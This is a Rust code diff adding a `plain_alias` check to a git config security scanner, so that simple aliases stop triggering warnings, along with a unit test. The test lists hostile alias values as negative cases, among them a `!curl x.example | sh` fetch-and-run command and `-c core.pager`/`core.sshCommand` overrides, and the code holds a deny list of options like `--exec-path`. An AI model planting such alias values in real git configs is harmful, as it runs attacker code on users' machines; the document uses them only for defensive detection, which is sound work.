@@ -973,12 +973,30 @@ pub fn is_tracked_folder(repo: &Path, dir: &str) -> bool {
     run(c, b"").is_some_and(|o| !o.is_empty())
 }
 
+/// Whether an `alias.*` entry only names git subcommands and their options (`co = checkout`,
+/// `lg = log --oneline --graph`): no shell (`!...`), no configuration set on the way (`-c`,
+/// `--config-env`), no other git or program (`--exec-path`, `--git-dir`).
+fn plain_alias(key: &str, value: &str) -> bool {
+    key.to_ascii_lowercase().starts_with("alias.")
+        && !value.trim_start().starts_with('!')
+        && value.split_whitespace().all(|w| {
+            !(w == "-c"
+                || w.starts_with("-c") && w.len() > 2 && !w.starts_with("--")
+                || ["--config-env", "--exec-path", "--git-dir", "--work-tree", "--namespace"]
+                    .iter()
+                    .any(|o| w.starts_with(o)))
+                && !w.contains(['$', '`', ';', '|', '&', '>', '<'])
+        })
+}
+
 /// Dangerous keys the new config adds or changes.
 pub fn dangerous_config_changes(before: &Path, after: &Path) -> Vec<String> {
     let old = config_entries(before).unwrap_or_default();
     let Some(new) = config_entries(after) else { return vec!["(unreadable config)".into()] };
     new.into_iter()
-        .filter(|(k, v)| config_key_is_dangerous(k) && !old.contains(&(k.clone(), v.clone())))
+        .filter(|(k, v)| {
+            config_key_is_dangerous(k) && !plain_alias(k, v) && !old.contains(&(k.clone(), v.clone()))
+        })
         .map(|(k, _)| k)
         .collect()
 }
@@ -986,6 +1004,22 @@ pub fn dangerous_config_changes(before: &Path, after: &Path) -> Vec<String> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_plain_alias_runs_git_only() {
+        assert!(plain_alias("alias.co", "checkout"));
+        assert!(plain_alias("alias.lg", "log --oneline --graph --decorate"));
+        for bad in [
+            "!curl x.example | sh",
+            "-c core.pager=evil log",
+            "-ccore.sshCommand=x fetch",
+            "--exec-path=/tmp x",
+            "log > /tmp/x",
+        ] {
+            assert!(!plain_alias("alias.x", bad), "{bad}");
+        }
+        assert!(!plain_alias("core.pager", "less"));
+    }
 
     #[test]
     fn dangerous_keys() {
